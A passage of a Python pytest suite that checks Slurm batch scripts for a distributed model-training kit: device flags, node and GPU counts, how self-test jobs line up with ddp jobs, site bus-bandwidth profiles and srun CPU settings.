        Path(f"data/instruct/{split}.jsonl").touch()
    monkeypatch.delenv("CUDA_VISIBLE_DEVICES", raising=False)
    refused, checked_files = [], 0
    for path in sorted(folder.glob("batch-*.sh")):
        launch = stage_launch(path.read_text())
        if launch is None:
            continue
        script, argv = launch
        nodes, gpus = map(int, re.search(r"-(\d+)n(\d+)g\.sh$", path.name).groups())
        if script not in ("selftest", "finetune_lora", "hpo_optuna") \
                and "--device cuda" not in " ".join(argv):
            refused.append(f"{path.name}: no --device cuda: a torch without GPUs trains on the CPU")
        argv = ["cpu" if word == "cuda" else word for word in argv]
        for name, value in zip(LAUNCHED, (nodes * gpus, gpus, 0, 0)):
            monkeypatch.setenv(name, str(value))
        if nodes > 1:  # a Slurm job of several nodes: what hpo's trials srun across
            monkeypatch.setenv("SLURM_JOB_NODELIST", f"node[1-{nodes}]")
        else:
            monkeypatch.delenv("SLURM_JOB_NODELIST", raising=False)
        args = checked(script, argv, nodes * gpus)
        checked_files += 1
        if isinstance(args, str):
            refused.append(f"{path.name}: {args}")
        elif script == "selftest":
            refused += selftest_problems(path, args, tokens, nodes * gpus)
    assert checked_files >= 25, checked_files
    assert refused == [], "\n".join(refused)


def selftest_problems(path, args, tokens, processes):
    """The self-test's data and micro-batch against the ddp job of its shape and the data."""
    ddp_file = path.with_name(path.name.replace("selftest", "ddp"))
    script, ddp_argv = stage_launch(ddp_file.read_text())
    ddp = checked(script, ["cpu" if word == "cuda" else word for word in ddp_argv], processes)
    preset = presets.get_preset(args.preset)
    problems = []
    if args.data != ddp.data:
        problems.append(f"{path.name}: --data {args.data}, not the training jobs' {ddp.data}")
    if args.micro_batch != ddp.micro_batch:
        problems.append(f"{path.name}: --micro-batch {args.micro_batch}, not {ddp_file.name}'s "
                        f"{ddp.micro_batch}")
    needed = (args.micro_batch or preset.micro_batch) * preset.seq_len * processes + 1
    if needed > tokens["val"]:
        problems.append(f"{path.name}: a microbatch on each of {processes} processes needs "
                        f"{needed:,} validation tokens; the data holds {tokens['val']:,}")
    return problems


def test_the_self_test_is_held_to_the_sites_bus_bandwidth():
    """Inside a node on one node, across nodes on two; none where the profile knows none."""
    isambard, generic = slurm.load_site("isambard-ai"), slurm.load_site("generic")
    assert "--expected-busbw 340" in slurm.selftest_job(isambard, slurm.Topology(1, 4))
    assert "--expected-busbw 90" in slurm.selftest_job(isambard, slurm.Topology(2, 4))
    assert "--expected-busbw" not in slurm.selftest_job(generic, slurm.Topology(2, 4))


@pytest.mark.parametrize("value", [-5, "fast", True, float("nan")])
def test_a_bad_bus_bandwidth_is_refused_in_one_line(tmp_path, value):
    import yaml
    (tmp_path / "batchfiles" / "sites").mkdir(parents=True)
    profile = yaml.safe_load((KIT_ROOT / "batchfiles" / "sites" / "generic.yml").read_text())
    profile["busbw_inter_node"] = value
    (tmp_path / "batchfiles" / "sites" / "bad.yml").write_text(yaml.safe_dump(profile))
    with pytest.raises(KitError) as error:
        slurm.load_site("bad", tmp_path)
    assert str(error.value) == (
        f"{tmp_path}/batchfiles/sites/bad.yml: field 'busbw_inter_node' is {value!r}; use the "
        "expected all-reduce bus bandwidth in GB/s, a number above 0, or null where none is known")


def test_every_job_gives_its_srun_steps_the_cores_it_asked_for():
    """Slurm 22.05 to 23.02 do not pass --cpus-per-task on to srun's steps."""
    for name in BATCH_FILES:
        text = (KIT_ROOT / name).read_text()
        assert 'export SRUN_CPUS_PER_TASK="$SLURM_CPUS_PER_TASK"\n' in text, name
